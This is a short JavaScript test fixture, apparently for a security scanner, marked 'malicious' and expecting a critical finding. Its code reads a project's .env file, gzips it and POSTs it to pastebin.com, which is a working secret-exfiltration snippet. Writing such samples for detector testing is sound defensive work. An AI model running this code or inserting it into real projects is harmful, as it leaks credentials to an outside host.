// does: reads .env and posts it, gzipped, from Node
// kind: malicious
// expect: SEN-001 critical proven
// needs: node
const fs = require("fs");
const zlib = require("zlib");
fetch("https://pastebin.com/api", { method: "POST", body: zlib.gzipSync(fs.readFileSync(".env")) }).then((answer) => answer.text());
